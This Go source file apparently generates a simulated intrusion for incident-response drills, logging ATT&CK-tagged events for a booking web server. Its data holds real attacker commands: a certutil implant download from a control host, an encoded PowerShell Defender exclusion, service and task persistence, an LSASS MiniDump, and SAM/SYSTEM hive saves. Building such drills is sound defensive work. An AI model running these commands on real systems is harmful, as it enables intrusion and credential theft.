package booking

import (
	"fmt"
	"time"

	"github.com/contrail-ir/contrail/drill/scene"
)

// enter: a hole in the booking application lets the intruder run commands as the web server's worker.
func (s story) enter(f *foothold) {
	h, w := s.Web, s.Web.Server
	f.webShell = w
	at := s.At(2, 21, 14, 6)

	a := s.Act("web-exploit", h, "T1190", "initial-access", at, "A flaw in the booking application is used to run a command")
	a.Note(s.Connect(at.Add(-200*time.Millisecond), w, false, scene.Peer(intruderFrom, "", 51514), scene.Peer(h.IP, h.FQDN(), 443)))
	_, ran := s.viaShell(at, w, scene.System32+"whoami.exe", "whoami /all")
	a.Note(ran...)

	at = at.Add(3 * time.Minute)
	a = s.Act("web-shell", h, "T1505.003", "persistence", at, "A page that runs commands is left in the booking site", "web-exploit")
	a.Note(s.Connect(at.Add(-time.Second), w, false, scene.Peer(intruderFrom, "", 51533), scene.Peer(h.IP, h.FQDN(), 443)))
	a.Note(s.Create(at, w, `C:\inetpub\wwwroot\booking\content\fareview.aspx`))
	s.Indicator("path", `C:\inetpub\wwwroot\booking\content\fareview.aspx`)

	at = at.Add(6 * time.Minute)
	a = s.Act("web-discovery", h, "T1087.002", "discovery", at, "Domain, hosts and administrators are listed through the page", "web-shell")
	for i, c := range []struct{ tool, line string }{
		{"ipconfig.exe", "ipconfig /all"},
		{"nltest.exe", "nltest /dclist:skylark.example"},
		{"net.exe", `net group "Domain Admins" /domain`},
		{"netstat.exe", "netstat -ano"},
		{"systeminfo.exe", "systeminfo"},
	} {
		_, ran := s.viaShell(at.Add(time.Duration(i*22)*time.Second), w, scene.System32+c.tool, c.line)
		a.Note(ran...)
	}

	at = at.Add(9 * time.Minute)
	a = s.Act("web-download", h, "T1105", "command-and-control", at, "The implant is fetched with a Windows tool", "web-shell")
	p, ran := s.viaShell(at, w, scene.System32+"certutil.exe", `certutil -urlcache -split -f http://`+controlName+`/assets/fares.bin `+implantPath)
	a.Note(ran...)
	a.Note(s.Resolve(at.Add(300*time.Millisecond), p, controlName, "::ffff:"+controlAddress+";"),
		s.Connect(at.Add(400*time.Millisecond), p, true, h.Here(), scene.Peer(controlAddress, controlName, 80)),
		s.Create(at.Add(900*time.Millisecond), p, implantPath))

	at = at.Add(2 * time.Minute)
	a = s.Act("web-evasion", h, "T1562.001", "defense-evasion", at, "The folder is taken out of the virus scanner's sight", "web-download")
	line := "powershell -NoP -W Hidden -EncodedCommand QQBkAGQALQBNAHAAUAByAGUAZgBlAHIAZQBuAGMAZQAgAC0ARQB4AGMAbAB1AHMAaQBvAG4AUABhAHQAaAAgAEMAOgBcAFAAcgBvAGcAcgBhAG0ARABhAHQAYQA="
	p, ran = s.viaShell(at, w, powershell, line)
	a.Note(ran...)
	a.Note(s.Engine(at.Add(200*time.Millisecond), p, 3*time.Second)...)
	a.Note(s.Script(at.Add(400*time.Millisecond), p, `Add-MpPreference -ExclusionPath C:\ProgramData`, ""),
		s.Registry(at.Add(time.Second), h.Svchost, `HKLM\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths\C:\ProgramData`, "DWORD (0x00000000)"))
}

// settle: the implant becomes a service and, should that be found, a task.
func (s story) settle(f *foothold) {
	h := s.Web
	at := s.At(2, 21, 39, 40)
	own := h.Session(scene.System, 5)

	a := s.Act("web-service", h, "T1543.003", "persistence", at, "The implant is installed as a service and started", "web-download")
	_, ran := s.viaShell(at, f.webShell, scene.System32+"sc.exe", `sc create `+implantService+` binPath= "`+implantPath+` -s" start= auto DisplayName= "AeroSync Cache Service"`)
	a.Note(ran...)
	installed := s.Service(at.Add(300*time.Millisecond), h.Machine(), h, implantService, implantPath+" -s", "auto start")
	a.Note(installed...)
	s.Starts["service"] = installed[:1] // System 7045, where an analyst would begin
	implant, started := s.Run(at.Add(8*time.Second), h.Services, implantPath, implantPath+" -s", own)
	a.Note(started...)
	a.Note(s.ServiceState(at.Add(8*time.Second), h, implantService, "running"))
	f.implant[h] = implant

	at = at.Add(4 * time.Minute)
	a = s.Act("web-task", h, "T1053.005", "persistence", at, "A task starts the implant again every hour", "web-service")
	_, ran = s.viaShell(at, implant, scene.System32+"schtasks.exe", `schtasks /create /f /ru SYSTEM /sc hourly /tn "`+implantTask+`" /tr "`+implantPath+` -t"`)
	a.Note(ran...)
	a.Note(s.Schedule(at.Add(300*time.Millisecond), own, h, implantTask, implantPath, "-t")...)
	second, started := s.Run(at.Add(time.Hour), h.Svchost, implantPath, implantPath+" -t", own)
	a.Note(started...)
	a.Note(s.TaskRun(at.Add(time.Hour-3*time.Millisecond), h, implantTask, implantPath, second, 9*time.Second)...)
	a.Note(s.End(at.Add(time.Hour+8*time.Second), second))
}

// steal: passwords are taken from memory and from the registry of the web server.
func (s story) steal(f *foothold) {
	h := s.Web
	implant := f.implant[h]
	at := s.At(2, 22, 31, 12)

	a := s.Act("web-lsass", h, "T1003.001", "credential-access", at, "The memory of LSASS is written to a file", "web-service")
	p, ran := s.viaShell(at, implant, scene.System32+"rundll32.exe", fmt.Sprintf(`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %d C:\ProgramData\AeroSync\tmp\l.dmp full`, h.LSASS.PID))
	a.Note(ran...)
	a.Note(s.Open(at.Add(350*time.Millisecond), p, h.LSASS, 0x1fffff,
		`C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\SYSTEM32\dbgcore.DLL+9247|C:\Windows\System32\comsvcs.dll+3c3d4|C:\Windows\system32\rundll32.exe+3bcf`),
		s.Create(at.Add(700*time.Millisecond), p, stagingFolder+"l.dmp"))

	at = at.Add(5 * time.Minute)
	a = s.Act("web-sam", h, "T1003.002", "credential-access", at, "The account database and the system key are saved from the registry", "web-service")
	for i, hive := range []string{"SAM", "SYSTEM", "SECURITY"} {
		p, ran := s.viaShell(at.Add(time.Duration(i*7)*time.Second), implant, scene.System32+"reg.exe", `reg save HKLM\`+hive+` `+stagingFolder+hive+`.hiv /y`)
		a.Note(ran...)
		a.Note(s.Create(at.Add(time.Duration(i*7+1)*time.Second), p, stagingFolder+hive+".hiv"))
	}

	at = s.At(3, 0, 42, 0)
	a = s.Act("web-spray", s.App, "T1110.003", "credential-access", at, "Passwords are tried for many accounts of the application server until one fits", "web-service")
	names := []string{"administrator", "svc-res", "svc-backup", "l.brandt", "j.silva", "m.haddad", "t.nguyen", "c.rossi", "p.novak", "svc-sql", "adm-okafor", "adm-moreau"}
	for round := range 2 {
		for i, name := range names {
			t := at.Add(time.Duration(round*60+4*i) * time.Second)
			a.Note(s.Refuse(t, s.App, name, h.Here(), h.Name), s.Validate(t.Add(-time.Millisecond), name, h.Name, false))
		}
	}
	to := scene.Peer(s.App.IP, s.App.FQDN(), 445)
	a.Note(s.Connect(at.Add(130*time.Second), implant, true, h.Here(), to).Joins("address:" + s.App.Name + ":" + h.IP))
	se := s.App.Session(f.stolen, 3)
	a.Note(s.Validate(at.Add(131*time.Second), f.stolen.Name, h.Name, true))
	a.Note(s.Logon(at.Add(131*time.Second), se, h.Here(), h.Name)...)
	a.Note(s.Logoff(at.Add(140*time.Second), se))
}
